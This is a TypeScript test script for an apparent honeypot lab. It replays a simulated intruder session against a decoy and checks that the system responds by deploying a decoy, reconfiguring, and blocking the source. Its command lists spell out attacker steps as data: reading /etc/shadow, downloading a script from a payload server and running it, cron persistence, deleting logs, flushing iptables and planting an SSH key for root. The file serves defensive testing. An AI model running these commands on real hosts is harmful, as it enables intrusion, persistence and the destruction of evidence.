import type { AttackShell } from './shell.ts'
import { type Login, shellAt } from './step-attack.ts'
import { decoysNow, reaches, type ShownDecoy, type Stage } from './story.ts'
import { until } from './wait.ts'

type Source = { score: number; reasons: { words: string }[] }
type Decision = {
  id: string
  kind: 'block' | 'deploy' | 'reconfigure'
  target: string
  source: string | null
  status: string
  score: number | null
  reason: string
}

export type Engagement = { from: string; ip: string; login: Login; shell: AttackShell }

/** What an intruder types, in the order in which it becomes worse. */
const lookAround = ['id', 'uname -a', 'cat /etc/passwd', 'ps aux', 'ls -la /root']
const goOn = (payload: string) => [
  `wget http://${payload}/x.sh -O /tmp/x.sh`,
  'chmod +x /tmp/x.sh',
  'sh /tmp/x.sh',
  'cat /etc/shadow',
  'crontab -l',
  'echo "* * * * * /tmp/x.sh" | crontab -',
  'history -c',
  'rm -rf /var/log/auth.log',
  'ssh root@10.0.0.1',
  'iptables -F',
  'echo ssh-rsa AAAAB3NzaC1yc2E x >> /root/.ssh/authorized_keys',
]

/**
 * One attacker's session from the first command to the block: waits at each threshold for its consequence, so that each is seen
 * on its own. `before`: the decoys there were when the attacker came. The session stays open while its decoy is reconfigured, and ends with the block.
 */
export async function engage(
  stage: Stage,
  from: string,
  login: Login,
  before: readonly ShownDecoy[],
): Promise<Engagement> {
  const { lab, centre, timeline } = stage
  const ip = lab.machine(from).ip
  const version = before.find(({ id }) => id === login.decoy.id)?.personaVersion ?? 1
  const shell = await shellAt(stage, from, login)
  const seen = new Set<string>()

  /** Consequences that came since the last look. */
  async function consequences(): Promise<Decision[]> {
    const all = await centre.ask<Decision[]>('blocks', 'ls', '--kind', 'all', '--limit', '500')
    const fresh = all.filter(({ source, status, id }) => source === ip && status === 'active' && !seen.has(id))
    for (const { id } of fresh) seen.add(id)
    return fresh
  }

  const lines = [...lookAround, ...goOn(lab.machine('payload-server').ip)]
  const done = new Set<Decision['kind']>()
  for (const line of lines) {
    if (!shell.open() || done.has('block')) break
    timeline.progress(`${from} types: ${line}`)
    await shell.type(line).catch(() => undefined)
    for (const { kind, score } of await consequences()) {
      done.add(kind)
      await told(kind, score ?? 0)
    }
  }
  await until(`the block of ${ip}`, 20, async () => {
    for (const { kind, score } of await consequences()) {
      done.add(kind)
      await told(kind, score ?? 0)
    }
    return done.has('block') || undefined
  })
  const missing = (['deploy', 'reconfigure', 'block'] as const).filter((kind) => !done.has(kind))
  if (missing.length > 0) throw new Error(`${from} was not answered with: ${missing.join(', ')}`)
  const { score, reasons } = await centre.ask<Source>('sources', 'show', ip)
  timeline.tell(
    `risk of ${ip}: ${Math.round(score)}, because it ${reasons
      .slice(0, 4)
      .map(({ words }) => words)
      .join('; ')}`,
  )
  return { from, ip, login, shell }

  async function told(kind: Decision['kind'], score: number): Promise<void> {
    const risk = `risk ${Math.round(score * 10) / 10}`
    if (kind === 'deploy') {
      const added = await until('one more decoy', 90, async () =>
        (await decoysNow(stage)).find(({ id, phase }) => phase === 'ready' && !before.some((old) => old.id === id)),
      )
      timeline.tell(`${risk}: one more decoy, ${added.hostname} at ${added.ip}, answers`)
    } else if (kind === 'reconfigure') {
      const open = shell.open()
      const shown = await until('the other face', 20, async () =>
        (await decoysNow(stage)).find(
          ({ id, state }) => id === login.decoy.id && (state?.personaVersion ?? 0) > version,
        ),
      )
      const answer = await shell.type('hostname')
      if (!open || !answer.includes(shown.hostname)) throw new Error('the session did not survive the reconfiguration')
      timeline.tell(
        `${risk}: ${shown.hostname} shows version ${shown.state?.personaVersion} of its persona; the attacker's session is still open`,
      )
    } else timeline.tell(`${risk}: ${ip} is blocked everywhere`)
  }
}

/** Tries what worked before the block. Each refusal is shown to be one by the same try of somebody who is not blocked. */
export async function proveBlocked(
  stage: Stage,
  outside: Engagement,
  inside: Engagement,
): Promise<{ decoys: boolean; gateway: boolean }> {
  const { lab, timeline } = stage
  const web = lab.machine('web-01').ip
  const neighbour = 'ber-dev-007'
  // Inside its segment, no gateway stands between the attacker and the decoy.
  const darkToInside = !(await reaches(stage, inside.from, inside.login.decoy.ip, 22))
  const litToNeighbour = await reaches(stage, neighbour, inside.login.decoy.ip, 22)
  timeline.tell(
    `${inside.from} -> ${inside.login.decoy.hostname}:22 in its own segment: ${darkToInside ? 'nothing answers' : 'ANSWERS'}; a neighbour is ${litToNeighbour ? 'answered' : 'NOT ANSWERED'}`,
  )
  const stopped = !(await reaches(stage, outside.from, web, 80))
  const passes = await reaches(stage, neighbour, web, 80)
  timeline.tell(
    `${outside.from} -> web-01:80, a real host behind the gateway: ${stopped ? 'nothing answers' : 'ANSWERS'}; a host of the other segment is ${passes ? 'answered' : 'NOT ANSWERED'}`,
  )
  outside.shell.end()
  inside.shell.end()
  return { decoys: darkToInside && litToNeighbour, gateway: stopped && passes }
}
